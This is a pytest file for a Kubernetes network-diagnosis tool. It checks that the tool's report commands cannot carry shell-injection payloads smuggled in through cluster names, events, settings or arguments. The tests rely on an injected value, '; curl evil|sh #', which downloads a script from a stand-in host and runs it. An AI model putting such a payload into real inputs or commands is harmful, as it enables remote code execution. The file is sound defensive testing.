"""A recording is text of whoever wrote it: no command of its report holds what a shell obeys."""

import copy
import gzip
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from kubectl_netcheck.api import as_text
from kubectl_netcheck.model.errors import BadRecording
from kubectl_netcheck.model.report import Report
from kubectl_netcheck.run.events import silent
from kubectl_netcheck.run.replay import run_replay

CASES = Path(__file__).parents[1] / "cases"
EVIL = "; curl evil|sh #"
FORMATS = ("table", "wide", "json", "yaml", "markdown", "html", "sarif", "junit")
Edit = Callable[[dict[str, Any]], object]


def case(slug: str, name: str) -> dict[str, Any]:
    text = gzip.decompress((CASES / slug / f"{name}.json.gz").read_bytes())
    found: dict[str, Any] = json.loads(text)
    return found


def replayed(raw: dict[str, Any], folder: Path, edit: Edit) -> Report:
    made = copy.deepcopy(raw)
    edit(made)
    path = folder / "hostile.json"
    path.write_text(json.dumps(made), encoding="utf-8")
    assert EVIL in path.read_text(encoding="utf-8")
    return run_replay(path, silent)


def commands(report: Report) -> Iterator[str]:
    """What a report has people paste."""
    diagnosis = report.diagnosis
    for finding in (*diagnosis.findings, *diagnosis.candidates):
        yield from (*finding.fix, finding.verify)
    yield diagnosis.decide


def agent(raw: dict[str, Any]) -> dict[str, Any]:
    """The DaemonSet of the CNI."""
    every = raw["inventory"]["objects"]["daemonsets"]
    found: dict[str, Any] = next(d for d in every if d["metadata"]["name"] == "kube-flannel-ds")
    return found


def of_the_agent(*path: str) -> Edit:
    def edit(raw: dict[str, Any]) -> None:
        place = agent(raw)
        for key in path[:-1]:
            place = place[key]
        place[path[-1]] += EVIL

    return edit


def of_its_pods(raw: dict[str, Any]) -> None:
    for pod in raw["inventory"]["objects"]["pods"]:
        if pod["spec"]["nodeName"] == "node-a":
            pod["spec"]["nodeName"] += EVIL


def of_an_event(raw: dict[str, Any]) -> None:
    """Whoever may write events may write this one into a live cluster."""
    event = {
        "metadata": {"name": "e", "namespace": "shop"},
        "reason": "FailedCreatePodSandBox",
        "message": "cni plugin not initialized",
        "source": {"host": f"node-c{EVIL}"},
    }
    raw["inventory"]["objects"]["events"] = [event]


NAMES: dict[str, Edit] = {
    "namespace": of_the_agent("metadata", "namespace"),
    "DaemonSet": of_the_agent("metadata", "name"),
    "label": of_the_agent("spec", "selector", "matchLabels", "app"),
    "node of pods": of_its_pods,
    "event": of_an_event,
}


@pytest.mark.parametrize("what", NAMES)
def test_a_name_that_is_none_is_left_for_the_reader(what: str, tmp_path: Path) -> None:
    report = replayed(case("cni-agent-down", "cni-agent-down-node-a"), tmp_path, NAMES[what])
    assert report.findings
    for form in FORMATS:
        assert "curl evil" not in as_text(report, form), form


def test_what_takes_its_place_says_what_belongs_there(tmp_path: Path) -> None:
    raw = case("tunnel-device-missing", "tunnel-device-removed-node-b")
    report = replayed(raw, tmp_path, NAMES["namespace"])
    steps = [step for finding in report.findings for step in finding.fix]
    assert any("kubectl -n <the CNI's namespace> delete pod" in step for step in steps), steps


def pods_range(raw: dict[str, Any]) -> None:
    """A setting, which a live cluster can have as well."""
    for each in raw["inventory"]["objects"]["configmaps"]:
        if each["metadata"]["name"] == "kube-flannel-cfg":
            net = json.loads(each["data"]["net-conf.json"])
            each["data"]["net-conf.json"] = json.dumps({**net, "Network": f"10.244.0.0/16{EVIL}"})


def test_a_setting_that_is_no_plain_word_stands_in_no_command(tmp_path: Path) -> None:
    raw = case("forward-policy-drop", "forward-policy-drop-node-b")
    report = replayed(raw, tmp_path, pods_range)
    said = list(commands(report))
    assert any("iptables -I FORWARD -s <the range of all pods>" in step for step in said), said
    assert not any("curl evil" in step for step in said), said


def everywhere(word: str) -> Edit:
    def edit(raw: dict[str, Any]) -> None:
        text = json.dumps(raw).replace(word, word + EVIL)
        raw.update(json.loads(text))

    return edit


REFUSED: dict[str, tuple[Edit, str]] = {
    "node": (everywhere("node-b"), "nothing in a cluster can be called 'node-b; curl evil|sh #'"),
    "question": (
        lambda raw: raw["meta"]["arguments"]["question"].update(subjects=["node-a", EVIL]),
        repr(EVIL),
    ),
    "command": (
        lambda raw: raw["meta"]["arguments"]["request"].update(command=f"pair{EVIL}"),
        "its run is of another command",
    ),
}


@pytest.mark.parametrize(("edit", "why"), REFUSED.values(), ids=REFUSED)
def test_what_nobody_can_have_asked_is_refused(edit: Edit, why: str, tmp_path: Path) -> None:
    with pytest.raises(BadRecording) as problem:
        replayed(case("tunnel-port-blocked", "tunnel-port-blocked-node-b"), tmp_path, edit)
    assert (problem.value.why, problem.value.exit_code) == (why, 2)


#: Questions whose words the report prints again, each with one that no command line takes.
ASKED: dict[str, dict[str, Any]] = {
    "dns": {"names": [f"example.com{EVIL}"]},
    "mesh": {"selector": f"a=b{EVIL}"},
    "egress": {"host": f"example.com{EVIL}", "port": 443},
    "service": {"name": f"web{EVIL}"},
    "pod": {
        "pod": {"kind": "pod", "name": "web", "namespace": "shop"},
        "to": {"kind": EVIL, "name": "db"},
    },
    "verify": {
        "slug": "dns-udp-blocked",
        "scope": "node",
        "nodes": ["node-b"],
        "origin": "dns",
        "subjects": ["node-a", "node-b"],
        "asked": {"names": [f"example.com{EVIL}"]},
    },
}


@pytest.mark.parametrize("command", ASKED)
def test_a_question_is_asked_in_words_that_its_command_takes(command: str, tmp_path: Path) -> None:
    def edit(raw: dict[str, Any]) -> None:
        raw["meta"]["command"] = command
        request = {**raw["meta"]["arguments"]["request"], "command": command}
        raw["meta"]["arguments"] = {"request": request, "question": ASKED[command]}

    with pytest.raises(BadRecording, match="asks for what no command takes"):
        replayed(case("tunnel-port-blocked", "tunnel-port-blocked-node-b"), tmp_path, edit)


SELECTORS = ("zone=a", "zone in (a,b),!gpu", "cores>4", "app.kubernetes.io/name!=x")


@pytest.mark.parametrize("selector", SELECTORS)
def test_selectors_are_taken_in_kubectls_words(selector: str, tmp_path: Path) -> None:
    raw = case("tunnel-port-blocked", "tunnel-port-blocked-node-b")
    request = {**raw["meta"]["arguments"]["request"], "command": "mesh"}
    raw["meta"]["command"] = "mesh"
    raw["meta"]["arguments"] = {"request": request, "question": {"selector": selector}}
    raw["inventory"]["selected"] = ["node-a", "node-b"]
    path = tmp_path / "run.json"
    path.write_text(json.dumps(raw), encoding="utf-8")
    assert run_replay(path, silent).asked == {"selector": selector}
